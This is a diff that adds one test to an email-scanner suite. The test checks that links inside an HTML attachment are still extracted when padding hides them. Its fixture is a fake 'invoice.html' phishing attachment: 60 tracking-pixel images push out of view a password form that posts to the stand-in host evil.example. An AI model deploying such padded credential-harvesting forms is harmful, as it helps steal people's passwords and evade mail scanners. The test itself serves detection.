@@ -295,6 +295,33 @@ describe('links a sender hides from a scanner but a mail client shows', () => {
     assert.equal(describeUrl('relative/path', 'href'), null);
   });
 
+  it('reads the form and links of an HTML attachment behind padding (60 pixels once pushed them out)', async () => {
+    const page = `${'<img src="https://px.example/p.gif">'.repeat(60)}<form action="https://evil.example/collect"><input type="password"></form>`;
+    const raw = toCrlf(
+      [
+        'From: a@example.com',
+        'To: b@example.org',
+        'MIME-Version: 1.0',
+        'Content-Type: multipart/mixed; boundary="b"',
+        '',
+        '--b',
+        'Content-Type: text/plain',
+        '',
+        'Your invoice is attached.',
+        '--b',
+        'Content-Type: text/html; name="invoice.html"',
+        'Content-Disposition: attachment; filename="invoice.html"',
+        '',
+        page,
+        '--b--',
+        '',
+      ].join('\n'),
+    );
+    const i = await extractScanInput(raw, env, limits);
+    assert.deepEqual(i.attachments[0]?.links, ['https://evil.example/collect']);
+    assert.ok(i.urls.some((u) => u.source === 'attachment' && u.host === 'evil.example'));
+  });
+
   it("reads an attached message's links (message/rfc822, .eml) as another sender's: source 'message'", async () => {
     const inner = [
       'From: "Amazon" <service@amazon.com>',
